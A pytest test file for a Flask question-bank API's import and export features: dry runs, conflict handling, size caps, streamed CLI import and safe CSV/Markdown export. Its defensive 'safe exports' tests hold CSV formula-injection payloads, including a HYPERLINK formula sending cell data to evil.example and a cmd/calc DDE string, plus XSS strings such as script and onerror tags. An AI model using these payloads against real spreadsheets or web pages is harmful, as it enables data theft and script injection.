"""Bulk import (JSON or plain text, all or nothing, dry run) and export (JSON, CSV, Markdown)."""

from __future__ import annotations

import csv
import io
import json
import re
import urllib.error
import urllib.request

import pytest
from sqlalchemy import func, select

from api.bank.models import Question
from api.extensions import db
from tests.support.accounts import login_headers, make_user
from tests.support.apps import (
    SEED_DOCS,
    SEED_QUESTIONS,
    SEED_TOPICS,
    build_app,
    editor_app,
    seed_bank_into,
    slugs,
)

Q = "/api/v1/questions"


@pytest.fixture(scope="module")
def seeded(backend, database_factory):
    app = build_app(database_factory(backend, "qbank_transfer"))
    seed_bank_into(app)
    yield app, login_headers(app, make_user(app, "editor"))
    with app.app_context():
        db.engine.dispose()


def as_bank(questions: list[dict]) -> dict:
    """The JSON import body: a bank object holding these questions."""
    return {"version": 1, "questions": questions}


def question_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count(Question.id)))


def test_export_import_round_trip(seeded, backend, database_factory):
    app, editor = seeded
    exported = app.test_client().get(f"{Q}/export?format=json", headers=editor)
    assert exported.status_code == 200
    assert exported.mimetype == "application/json"
    assert 'filename="questions.json"' in exported.headers["Content-Disposition"]
    assert exported.headers["X-Total-Count"] == str(SEED_QUESTIONS)
    bank = exported.get_json()
    assert len(bank["questions"]) == SEED_QUESTIONS and len(bank["topics"]) == SEED_TOPICS

    empty, empty_editor = editor_app(database_factory, backend, "qbank_roundtrip")
    client = empty.test_client()
    response = client.post(f"{Q}/import", json=bank, headers=empty_editor)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["created"] == SEED_QUESTIONS
    again = client.get(f"{Q}/export?format=json", headers=empty_editor).get_json()
    assert again == bank
    with empty.app_context():
        db.engine.dispose()


def test_dry_run_reports_and_changes_nothing(seeded):
    app, editor = seeded
    client = app.test_client()
    before = question_count(app)
    existing = client.get(f"{Q}/1?include=answer").get_json()
    payload = [
        {
            "slug": existing["slug"],
            "prompt": existing["prompt"],
            "answer": "A new answer.",
            "topics": slugs(existing["topics"]),
            "tags": slugs(existing["tags"]),
            "difficulty": existing["difficulty"],
            "key_points": existing["key_points"],
            "sources": existing["sources"],
        },
        {"prompt": "What is a Flask blueprint, and why use one?", "answer": "A way to organise."},
        {"prompt": "What does the `teardown_appcontext` hook do?", "answer": "Cleans up."},
    ]
    response = client.post(
        f"{Q}/import?dry_run=true&on_conflict=update", json=as_bank(payload), headers=editor
    )
    assert response.status_code == 200
    report = response.get_json()
    assert report["dry_run"] is True and report["on_conflict"] == "update"
    assert report["created"] == 2 and report["updated"] == 1 and report["unchanged"] == 0
    assert report["items"]["updated"] == [existing["slug"]]
    assert report["results"][0] == {
        "position": 0,
        "slug": existing["slug"],
        "outcome": "updated",
        "previous_version": existing["version"],
        "version": existing["version"] + 1,
    }
    assert [(r["position"], r["outcome"], r["version"]) for r in report["results"][1:]] == [
        (1, "created", 1),
        (2, "created", 1),
    ]
    flagged = {d["slug"]: d for d in report["near_duplicates"]}
    assert list(flagged) == ["what-is-a-flask-blueprint-and-why-use-one"]
    assert "blueprint" in flagged["what-is-a-flask-blueprint-and-why-use-one"]["similar_to"]["slug"]
    assert question_count(app) == before
    assert client.get(f"{Q}/1?include=answer").get_json()["answer"] == existing["answer"]


# --------------------------------------------------------------------------- existing slugs


def _as_import_item(question: dict, **changes) -> dict:
    """A question as read (`include=answer`) written back: topics and tags by slug."""
    keep = ("slug", "prompt", "answer", "difficulty", "key_points", "sources")
    return {
        **{k: question[k] for k in keep},
        "topics": slugs(question["topics"]),
        "tags": slugs(question["tags"]),
        **changes,
    }


@pytest.fixture()
def edited(backend, database_factory, request):
    """A bank of its own with one question an editor has changed four times (version 5)."""
    app, editor = editor_app(database_factory, backend, f"qbank_conflict_{request.node.name[:12]}")
    client = app.test_client()
    topic = {"slug": "routing", "name": "Routing"}
    assert client.post("/api/v1/topics", json=topic, headers=editor).status_code == 201
    body = {
        "slug": "edited",
        "prompt": "What does url_for do?",
        "answer": "v1",
        "topics": ["routing"],
    }
    created = client.post(Q, json=body, headers=editor)
    assert created.status_code == 201, created.get_json()
    path, etag = created.headers["Location"], created.headers["ETag"]
    for n in range(2, 6):
        patched = client.patch(path, json={"answer": f"v{n}"}, headers={**editor, "If-Match": etag})
        assert patched.status_code == 200
        etag = patched.headers["ETag"]
    question = client.get(f"{path}?include=answer").get_json()
    assert question["version"] == 5
    yield app, editor, question
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def _overwrite(question: dict) -> dict:
    """The edited question turned into a true/false one: what must not happen unasked."""
    return _as_import_item(question, answer="Overwritten.", type="true_false", correct_choices=[0])


@pytest.mark.parametrize("dry_run", ["false", "true"])
@pytest.mark.parametrize(
    "body",
    [
        lambda q: as_bank([{"prompt": "Another question?", "answer": "New."}, _overwrite(q)]),
        lambda q: {
            "version": 1,
            "topics": [{"slug": "routing", "name": "Renamed"}],
            "questions": [{"prompt": "Another question?", "answer": "New."}, _overwrite(q)],
        },
    ],
    ids=["questions", "topics"],
)
def test_an_existing_slug_is_a_conflict_unless_asked_for(edited, assert_problem, body, dry_run):
    """Was: the import overwrote the editor's question (version 5 -> 6, type changed)."""
    app, editor, question = edited
    client = app.test_client()
    response = client.post(f"{Q}/import?dry_run={dry_run}", json=body(question), headers=editor)
    problem = assert_problem(response, 409, "import-conflict")
    assert problem["conflicts"] == [{"position": 1, "slug": "edited", "version": 5}]
    assert "on_conflict=update" in problem["detail"]
    after = client.get(f"{Q}/{question['id']}?include=answer").get_json()
    assert (after["version"], after["type"], after["answer"]) == (5, "open", "v5")
    assert question_count(app) == 1
    assert client.get("/api/v1/topics/routing").get_json()["name"] == "Routing"


def test_on_conflict_update_overwrites_and_reports_versions(edited):
    app, editor, question = edited
    client = app.test_client()
    body = [
        _overwrite(question),
        {"prompt": "Another question?", "answer": "New."},
    ]
    response = client.post(f"{Q}/import?on_conflict=update", json=as_bank(body), headers=editor)
    assert response.status_code == 200, response.get_json()
    report = response.get_json()
    assert (report["created"], report["updated"], report["skipped"]) == (1, 1, 0)
    assert report["results"] == [
        {
            "position": 0,
            "slug": "edited",
            "outcome": "updated",
            "previous_version": 5,
            "version": 6,
        },
        {"position": 1, "slug": "another-question", "outcome": "created", "version": 1},
    ]
    after = client.get(f"{Q}/{question['id']}?include=answer").get_json()
    assert (after["version"], after["type"], after["answer"]) == (6, "true_false", "Overwritten.")
    again = client.post(f"{Q}/import?on_conflict=update", json=as_bank(body[:1]), headers=editor)
    assert again.get_json()["results"] == [
        {
            "position": 0,
            "slug": "edited",
            "outcome": "unchanged",
            "previous_version": 6,
            "version": 6,
        }
    ]


def test_on_conflict_skip_leaves_existing_questions(edited):
    app, editor, question = edited
    client = app.test_client()
    body = [
        {"prompt": "Another question?", "answer": "New."},
        _overwrite(question),
    ]
    response = client.post(f"{Q}/import?on_conflict=skip", json=as_bank(body), headers=editor)
    assert response.status_code == 200, response.get_json()
    report = response.get_json()
    assert (report["created"], report["updated"], report["skipped"]) == (1, 0, 1)
    assert report["items"]["skipped"] == ["edited"]
    assert report["results"][1] == {
        "position": 1,
        "slug": "edited",
        "outcome": "skipped",
        "version": 5,
    }
    after = client.get(f"{Q}/{question['id']}?include=answer").get_json()
    assert (after["version"], after["type"], after["answer"]) == (5, "open", "v5")
    assert question_count(app) == 2


def test_on_conflict_must_be_known(edited, assert_problem):
    app, editor, _ = edited
    response = app.test_client().post(
        f"{Q}/import?on_conflict=overwrite", json=as_bank([]), headers=editor
    )
    assert "on_conflict" in assert_problem(response, 400, "invalid-query")["errors"]


# --------------------------------------------------------------------------- item cap


def _numbered(count: int) -> bytes:
    return "".join(f"{n}. What is Flask?\nA framework.\n\n" for n in range(1, count + 1)).encode()


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", _numbered),
        (
            "application/json",
            lambda n: json.dumps(
                {"version": 1, "questions": [{"prompt": "What is Flask?", "answer": "x"}] * n}
            ).encode(),
        ),
    ],
    ids=["text", "bank"],
)
def test_an_import_holds_at_most_import_max_items(
    backend, database_factory, assert_problem, content_type, body
):
    app, editor = editor_app(database_factory, backend, "qbank_cap", IMPORT_MAX_ITEMS=5)
    client = app.test_client()
    headers = {**editor, "Content-Type": content_type}
    over = client.post(f"{Q}/import", data=body(6), headers=headers)
    problem = assert_problem(over, 413, "import-too-many-items")
    assert problem["limit"] == 5 and "at most 5" in problem["detail"]
    assert question_count(app) == 0
    at = client.post(f"{Q}/import", data=body(5), headers=headers)
    assert at.status_code == 200, at.get_json()
    assert at.get_json()["items"]["created"] == [
        "what-is-flask",
        *(f"what-is-flask-{n}" for n in range(2, 6)),
    ]
    with app.app_context():
        db.engine.dispose()


def test_one_bad_item_imports_nothing(seeded):
    app, editor = seeded
    before = question_count(app)
    payload = [
        {"prompt": "A fine question?", "answer": "Fine."},
        {"prompt": "Another fine one?", "answer": "Fine."},
        {"prompt": "", "answer": "Broken."},
        {"prompt": "Unknown topic?", "answer": "x", "topics": ["no-such-topic"]},
    ]
    response = app.test_client().post(f"{Q}/import", json=as_bank(payload), headers=editor)
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    assert "questions.2.prompt" in response.get_json()["errors"]
    assert question_count(app) == before


def test_a_bare_array_of_questions_is_refused(seeded, assert_problem):
    """One JSON shape, the bank object, so that generated clients type the body as one class
    (openapi-python-client could not send a body that was a bank or an array)."""
    app, editor = seeded
    before = question_count(app)
    items = [{"prompt": "A fine question?", "answer": "Fine."}]
    response = app.test_client().post(f"{Q}/import", json=items, headers=editor)
    problem = assert_problem(response, 422)
    assert problem["errors"] == {"_schema": ["Expected an object."]}
    assert '"version": 1' in problem["detail"]
    assert question_count(app) == before


def test_unknown_topic_or_repeated_slug_imports_nothing(seeded):
    app, editor = seeded
    client = app.test_client()
    before = question_count(app)
    unknown = [
        {"prompt": "Good?", "answer": "Yes."},
        {"prompt": "Unknown topic?", "answer": "x", "topics": ["no-such-topic"]},
    ]
    assert client.post(f"{Q}/import", json=as_bank(unknown), headers=editor).status_code == 422
    twice = [
        {"slug": "same", "prompt": "One?", "answer": "x"},
        {"slug": "same", "prompt": "Two?", "answer": "y"},
    ]
    response = client.post(f"{Q}/import", json=as_bank(twice), headers=editor)
    assert response.status_code == 422
    assert "slug" in response.get_json()["errors"]
    assert question_count(app) == before


def test_plain_text_import_flags_the_seed_twins(seeded):
    app, editor = seeded
    text = (SEED_DOCS / "003_ae11068e3ef71790.txt").read_text(encoding="utf-8")
    # The same questions from another document: new questions, each flagged as a twin.
    response = app.test_client().post(
        f"{Q}/import?dry_run=true&document=copy-of-003.txt",
        data=text.encode(),
        headers={**editor, "Content-Type": "text/plain; charset=utf-8"},
    )
    assert response.status_code == 200, response.get_json()
    report = response.get_json()
    assert report["created"] == 11
    # Every question of that document is already in the bank (as a question or a phrasing).
    assert len(report["near_duplicates"]) == 11
    assert all(d["score"] >= 80 for d in report["near_duplicates"])


def test_plain_text_import_of_a_seed_document_creates_nothing_twice(seeded):
    """The seed's questions record their document positions: importing it again is a no-op."""
    app, editor = seeded
    text = (SEED_DOCS / "003_ae11068e3ef71790.txt").read_text(encoding="utf-8")
    response = app.test_client().post(
        f"{Q}/import?dry_run=true&document=003_ae11068e3ef71790.txt",
        data=text.encode(),
        headers={**editor, "Content-Type": "text/plain; charset=utf-8"},
    )
    assert response.status_code == 200, response.get_json()
    report = response.get_json()
    assert (report["created"], report["unchanged"]) == (0, 11)
    assert report["near_duplicates"] == []


def test_plain_text_import_creates(backend, database_factory):
    app, editor = editor_app(database_factory, backend, "qbank_textimport")
    text = (SEED_DOCS / "000_becfa4df0abd7808.txt").read_bytes()
    response = app.test_client().post(
        f"{Q}/import?document=000.txt", data=text, headers={**editor, "Content-Type": "text/plain"}
    )
    assert response.status_code == 200
    assert response.get_json()["created"] == 50
    assert response.get_json()["near_duplicates"] == []
    assert question_count(app) == 50
    broken = app.test_client().post(
        f"{Q}/import",
        data=b"1. Question without answer?\n",
        headers={**editor, "Content-Type": "text/plain"},
    )
    assert broken.status_code == 422
    assert question_count(app) == 50
    with app.app_context():
        db.engine.dispose()


def test_body_over_the_limit_is_413(backend, database_factory):
    app, editor = editor_app(database_factory, backend, "qbank_413", IMPORT_MAX_BYTES=1000)
    response = app.test_client().post(
        f"{Q}/import", data=b"x" * 5000, headers={**editor, "Content-Type": "text/plain"}
    )
    assert response.status_code == 413
    assert response.mimetype == "application/problem+json"
    assert question_count(app) == 0
    with app.app_context():
        db.engine.dispose()


def test_export_csv_and_markdown_with_filters(seeded):
    app, editor = seeded
    client = app.test_client()
    routing = client.get(f"{Q}?topic=routing").headers["X-Total-Count"]
    response = client.get(f"{Q}/export?format=csv&topic=routing", headers=editor)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == int(routing)
    assert all("routing" in r["topics"].split() for r in rows)
    assert isinstance(json.loads(rows[0]["key_points"]), list)
    md = client.get(f"{Q}/export?format=markdown&difficulty=hard", headers=editor)
    assert md.status_code == 200 and md.mimetype == "text/markdown"
    text = md.get_data(as_text=True)
    assert text.startswith("# Question bank")
    assert text.count("\n## ") == int(client.get(f"{Q}?difficulty=hard").headers["X-Total-Count"])
    assert client.get(f"{Q}/export?format=xml", headers=editor).status_code == 400


# --------------------------------------------------------------------------- streamed import


def _bank_file(path, questions, *, topics=None) -> None:
    bank = {"version": 1, "topics": topics or [], "questions": questions}
    path.write_text(json.dumps(bank), encoding="utf-8")


def _generated(count: int, topic: str = "routing") -> list[dict]:
    return [
        {
            "slug": f"generated-{n}",
            "prompt": f"Generated question number {n}: what does it ask?",
            "answer": f"Answer {n}, long enough to be an answer.",
            "topics": [topic],
            "tags": [f"tag-{n % 7}"],
            "difficulty": "easy",
        }
        for n in range(count)
    ]


def test_import_bank_command_round_trips_an_export(seeded, backend, database_factory, tmp_path):
    app, editor = seeded
    bank = app.test_client().get(f"{Q}/export?format=json", headers=editor).get_json()
    path = tmp_path / "bank.json"
    path.write_text(json.dumps(bank), encoding="utf-8")
    empty, empty_editor = editor_app(database_factory, backend, "qbank_stream")
    runner = empty.test_cli_runner()
    result = runner.invoke(args=["import-bank", str(path)])
    assert result.exit_code == 0, result.output
    assert result.output.strip() == (
        f"imported bank.json: created {SEED_QUESTIONS}, updated 0, unchanged 0, skipped 0"
    )
    again = empty.test_client().get(f"{Q}/export?format=json", headers=empty_editor).get_json()
    assert again == bank
    result = runner.invoke(args=["import-bank", str(path)])
    assert result.exit_code == 1
    assert f"{SEED_QUESTIONS} items name questions the bank already has" in result.output
    assert "--on-conflict" in result.output or "on_conflict" in result.output
    result = runner.invoke(args=["import-bank", "--on-conflict", "skip", str(path)])
    assert result.output.strip() == (
        f"imported bank.json: created 0, updated 0, unchanged 0, skipped {SEED_QUESTIONS}"
    )
    result = runner.invoke(args=["import-bank", "--on-conflict", "update", str(path)])
    assert result.output.strip() == (
        f"imported bank.json: created 0, updated 0, unchanged {SEED_QUESTIONS}, skipped 0"
    )
    with empty.app_context():
        db.engine.dispose()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda qs: qs[700].update(prompt=""), "questions.700.prompt"),
        (lambda qs: qs[900].update(topics=["no-such-topic"]), "No topic 'no-such-topic'"),
        (lambda qs: qs[650].update(slug="generated-3"), "questions.650.slug"),
    ],
    ids=["invalid item", "unknown topic", "slug twice"],
)
def test_import_bank_command_is_all_or_nothing(seeded, tmp_path, change, message):
    """A bad item after several written batches: nothing of the file is kept."""
    app, _ = seeded
    before = question_count(app)
    questions = _generated(1000)
    change(questions)
    path = tmp_path / "bad.json"
    _bank_file(path, questions)
    result = app.test_cli_runner().invoke(args=["import-bank", str(path)])
    assert result.exit_code == 1
    assert message in result.output
    assert question_count(app) == before


def test_import_bank_command_refuses_what_is_not_a_bank_file(seeded, tmp_path):
    app, _ = seeded
    broken = tmp_path / "broken.json"
    broken.write_text('{"version": 1, "questions": [{"prompt": ', encoding="utf-8")
    unversioned = tmp_path / "unversioned.json"
    unversioned.write_text('{"questions": []}', encoding="utf-8")
    for path, message in ((broken, "not valid JSON"), (unversioned, "version")):
        result = app.test_cli_runner().invoke(args=["import-bank", str(path)])
        assert result.exit_code == 1 and message in result.output, result.output


def test_import_bank_dry_run_changes_nothing(seeded, tmp_path):
    app, _ = seeded
    before = question_count(app)
    path = tmp_path / "dry.json"
    _bank_file(path, _generated(30))
    result = app.test_cli_runner().invoke(args=["import-bank", "--dry-run", str(path)])
    assert result.exit_code == 0, result.output
    assert result.output.strip() == (
        "would import dry.json: created 30, updated 0, unchanged 0, skipped 0"
    )
    assert question_count(app) == before


def test_import_bank_streams_in_batches(backend, database_factory, tmp_path):
    """Peak memory of an import does not grow with the file: four times the questions,
    far less than four times the memory (a whole-file load would be proportional)."""
    import tracemalloc

    from api.bank.transfer.exchange import stream_bank_file

    peaks = {}
    for count in (800, 3200):
        app = build_app(database_factory(backend, f"qbank_stream_{count}"))
        seed_bank_into(app)
        path = tmp_path / f"bank-{count}.json"
        _bank_file(path, _generated(count))
        with app.app_context():
            tracemalloc.start()
            report = stream_bank_file(path, batch=200)
            peaks[count] = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            assert report.as_dict() == {
                "created": count,
                "updated": 0,
                "unchanged": 0,
                "skipped": 0,
            }
            assert report.created == []  # counts only
            db.engine.dispose()
        assert question_count(app) == SEED_QUESTIONS + count
    assert peaks[3200] < 2 * peaks[800], peaks


@pytest.mark.parametrize("kind", ["json", "csv", "markdown"])
def test_every_export_carries_the_bank_licence(seeded, kind):
    app, editor = seeded
    response = app.test_client().get(f"{Q}/export?format={kind}", headers=editor)
    assert response.status_code == 200
    assert response.headers["Link"] == (
        '<https://creativecommons.org/licenses/by-sa/4.0/>; rel="license"'
    )
    text = response.get_data(as_text=True)
    if kind == "json":
        assert response.get_json()["licence"]["spdx"] == "CC-BY-SA-4.0"
    elif kind == "markdown":
        assert "CC-BY-SA-4.0" in text.splitlines()[2]
    else:
        header = text.splitlines()[0].split(",")
        assert {"explanations", "related_group", "original_answer"} <= set(header)


# --------------------------------------------------------------------------- safe exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture()
def exporting(backend, database_factory, request):
    """A bank of its own with a topic, for questions written to be exported."""
    app, editor = editor_app(database_factory, backend, f"qbank_export_{request.node.name[:12]}")
    topic = {"slug": "routing", "name": "Routing"}
    assert app.test_client().post("/api/v1/topics", json=topic, headers=editor).status_code == 201
    yield app, editor
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def test_csv_export_neutralises_formulas(exporting):
    """OWASP CSV injection: a cell starting with = + - @ tab or CR is written after a `'`."""
    app, editor = exporting
    client = app.test_client()
    items = [
        {
            "slug": f"hostile-{n}",
            "prompt": f"{cell} prompt",
            "answer": cell,
            "note": cell,
            "related_group": None,
        }
        for n, cell in enumerate(HOSTILE)
    ]
    items.append({"slug": "plain", "prompt": "What is Flask?", "answer": "A framework."})
    assert client.post(f"{Q}/import", json=as_bank(items), headers=editor).status_code == 200
    response = client.get(f"{Q}/export?format=csv", headers=editor)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    by_slug = {row["slug"]: row for row in rows}
    for n in range(len(HOSTILE)):
        row = by_slug[f"hostile-{n}"]
        for column in ("prompt", "answer", "note"):
            assert row[column].startswith("'"), (column, row[column])
    for row in rows:  # no cell a spreadsheet would run
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    plain = by_slug["plain"]
    assert (plain["prompt"], plain["answer"], plain["difficulty"]) == (
        "What is Flask?",
        "A framework.",
        "medium",
    )


def _tags(html: str) -> list[str]:
    """The opening tags of rendered HTML, in order (the elements it holds)."""
    return re.findall(r"<([a-z][a-z0-9]*)\b", html)


def test_markdown_export_renders_only_the_elements_it_writes(exporting):
    """A prompt (or choice, key point, note) renders as its text: no heading, list, link,
    image, code or HTML of its own; an answer keeps its lists and code but gains no HTML,
    heading, link or image. Judged by rendering the export with markdown-it-py
    (CommonMark, raw HTML enabled) next to the export of the same questions in plain words.
    """
    from markdown_it import MarkdownIt

    hostile = {
        "slug": "hostile",
        "prompt": "# Heading? <script>alert(1)</script> [link](http://evil.example) "
        "![img](http://evil.example/i.png) <http://evil.example> `code` *em* &copy;\n"
        "- a list\n1. a numbered list\n```\nfence\n```",
        "answer": "<img src=x onerror=alert(1)>\n\n# Heading\n\nSetext\n===\n\n"
        "[link](http://evil.example) ![img](x) <https://evil.example>\n\n"
        "- a list item\n- with `<b>` code\n\n```python\nx = '<b>[no](link)'\n```",
        "type": "multiple_choice",
        "choices": ["- nested?", "[a](http://evil.example)", "<b>bold</b>"],
        "correct_choices": [0],
        "key_points": [
            {"text": "1. numbered", "alternatives": ["![i](x)"], "contradictions": ["# h"]}
        ],
        "note": "<a href='http://evil.example'>note</a>\n\n## heading",
        "topics": ["routing"],
    }
    plain = {
        **hostile,
        "slug": "plain",
        "prompt": "Plain words",
        "answer": "Plain.\n\nPlain.\n\nPlain. Plain.\n\nPlain. Plain. Plain.\n\n"
        "- a list item\n- with `<b>` code\n\n```python\nx = '<b>[no](link)'\n```",
        "choices": ["one", "two", "three"],
        "key_points": [{"text": "plain", "alternatives": ["plain"], "contradictions": ["x"]}],
        "note": "plain",
    }
    client = exporting[0].test_client()
    editor = exporting[1]
    assert (
        client.post(f"{Q}/import", json=as_bank([hostile, plain]), headers=editor).status_code
        == 200
    )
    renderer = MarkdownIt("commonmark")  # raw HTML on, as most Markdown viewers

    export = client.get(f"{Q}/export?format=markdown", headers=editor).get_data(as_text=True)
    hostile_md, plain_md = (
        "## " + part for part in export.split("\n## ")[1:]
    )  # questions in id order: hostile, plain
    hostile_html, plain_html = renderer.render(hostile_md), renderer.render(plain_md)
    assert _tags(hostile_html) == _tags(plain_html), (hostile_md, hostile_html)
    for forbidden in ("<script", "<img", "<a ", "<h1", "<h3", "<b>bold"):
        assert forbidden not in hostile_html
    assert hostile_html.count("<h2>") == 1
    # The text itself survives, shown as written.
    heading = re.search(r"<h2>(.*?)</h2>", hostile_html, re.S).group(1)
    assert heading.startswith("# Heading? &lt;script&gt;alert(1)&lt;/script&gt; [link](")
    assert "&amp;copy;" in heading and "`code` *em*" in heading
    assert "<code>&lt;b&gt;</code>" in hostile_html  # the answer's code span kept
    assert "x = '&lt;b&gt;[no](link)'" in hostile_html  # and its fenced code


# --------------------------------------------------------------------------- under gunicorn


def _largest_import(kind: str, limit: int, budget: int) -> tuple[bytes, str]:
    """`limit` questions, all asking the same, filling just under `budget` bytes."""
    prompt = "What is Flask?"
    answer = ("Flask is a small WSGI web framework for Python. " * 400)[: budget // limit - 60]
    if kind == "text":
        body = "".join(f"{n}. {prompt}\n{answer.strip()}.\n\n" for n in range(1, limit + 1))
        return body.encode(), "text/plain; charset=utf-8"
    items = [{"prompt": prompt, "answer": answer.strip() + "."} for _ in range(limit)]
    return json.dumps(as_bank(items)).encode(), "application/json"


def test_the_largest_allowed_import_finishes_within_the_worker_timeout(
    backend, database_factory, tmp_path
):
    """A 1 MB text import once outlived gunicorn's worker timeout (the worker was killed,
    an HTML 500). A real gunicorn, with the project's settings (gunicorn.conf.py, its
    30 s timeout), takes the largest import allowed: IMPORT_MAX_ITEMS questions in
    IMPORT_MAX_BYTES, every prompt the same, as text and then as JSON, written for real.
    The worker timeout is the bound: a worker killed mid-import answers no 2xx."""
    from api.config import Config
    from tests.support.accounts import DEFAULT_PASSWORD
    from tests.support.live import app_env, direct_opener, http, serve, tail

    url = database_factory(backend, "qbank_import_live")
    app = build_app(url)
    seed_bank_into(app)
    email = make_user(app, "editor")
    with app.app_context():
        db.engine.dispose()
    limit, budget = Config.IMPORT_MAX_ITEMS, Config.IMPORT_MAX_BYTES
    with serve(app_env(url, tmp_path), config=True, workers=1) as server:
        login = http(
            "POST",
            f"{server.base}/api/v1/auth/login",
            body={"email": email, "password": DEFAULT_PASSWORD},
        )
        assert login.status == 200, login.brief()
        token = login.body["access_token"]
        created: list[str] = []
        for kind in ("text", "json"):
            body, content_type = _largest_import(kind, limit, budget)
            assert budget - 64 * 1024 < len(body) <= budget, len(body)
            request = urllib.request.Request(
                f"{server.base}{Q}/import?document=largest.txt",
                data=body,
                method="POST",
                headers={"Authorization": f"Bearer {token}", "Content-Type": content_type},
            )
            try:
                with direct_opener.open(request, timeout=300) as response:
                    status, report = response.status, json.loads(response.read())
            except urllib.error.HTTPError as exc:
                status, report = exc.code, exc.read()[:500]
            assert status == 200, (kind, status, report, tail(server.log))
            assert report["created"] == limit
            created += report["items"]["created"]
        # What once killed the worker: 1 MB of tiny questions, now refused at once.
        tiny = "".join(f"{n}. What is Flask?\nA framework.\n\n" for n in range(1, 40_001))
        request = urllib.request.Request(
            f"{server.base}{Q}/import",
            data=tiny.encode()[: 1024 * 1024],
            method="POST",
            headers={"Authorization": f"Bearer {token}", "Content-Type": "text/plain"},
        )
        with pytest.raises(urllib.error.HTTPError) as refused:
            direct_opener.open(request, timeout=300)
        with refused.value as response:
            assert response.status == 413
            assert response.headers["Content-Type"] == "application/problem+json"
            problem = json.loads(response.read())
        assert problem["type"] == "/problems/import-too-many-items"
        assert problem["limit"] == limit
    assert created[:2] == ["what-is-flask-2", "what-is-flask-3"]  # the seed has the first
    assert len(set(created)) == 2 * limit
    assert question_count(app) == SEED_QUESTIONS + 2 * limit
    with app.app_context():
        db.engine.dispose()


@pytest.mark.parametrize(("on_conflict", "name"), [("skip", "Routing"), ("update", "Renamed")])
def test_an_existing_topic_changes_only_with_on_conflict_update(edited, on_conflict, name):
    app, editor, _ = edited
    client = app.test_client()
    bank = {
        "version": 1,
        "topics": [{"slug": "routing", "name": "Renamed"}, {"slug": "views", "name": "Views"}],
        "questions": [{"prompt": "What is a view?", "answer": "A function.", "topics": ["views"]}],
    }
    response = client.post(f"{Q}/import?on_conflict={on_conflict}", json=bank, headers=editor)
    assert response.status_code == 200, response.get_json()
    assert client.get("/api/v1/topics/routing").get_json()["name"] == name
    assert client.get("/api/v1/topics/views").get_json()["name"] == "Views"


@pytest.mark.parametrize(
    "answer",
    [
        "a:`]]x1.a:<xhttp://e!~~~1.`````a:>>=",  # backtick runs of unequal length
        "```#[```(<<http://e>`>",  # a backtick fence's info string holds no backtick
        "```>a:`\n\n# <",
        "!\\```<1.http://e~~~<&~~~`` <x>~~~```-]``([*",  # an escaped backtick opens no span
        "&```[ x\n#    http://e```<http://e> ```)>",  # a code span across two lines
        "- item\n\n   ```\n<img src=x onerror=alert(1)>\n   ```",  # the list item ends the fence
        "   >``\n)(~~~\n      >=",  # a setext underline in a block quote
        "`<int:id>` <b>bold</b> [link](http://e)\n===",
    ],
)
def test_markdown_answers_gain_no_html_heading_link_or_image(answer):
    """Cases a fuzzer found where the answer's escaping and CommonMark disagreed about
    what is code; rendered with markdown-it-py, none may make an element of its own."""
    from markdown_it import MarkdownIt

    from api.bank.transfer.exchange import md_answer

    html = MarkdownIt("commonmark").render(md_answer(answer))
    assert not re.search(r"<(a|img|h[1-6]|b|x|xhttp)\b", html), html
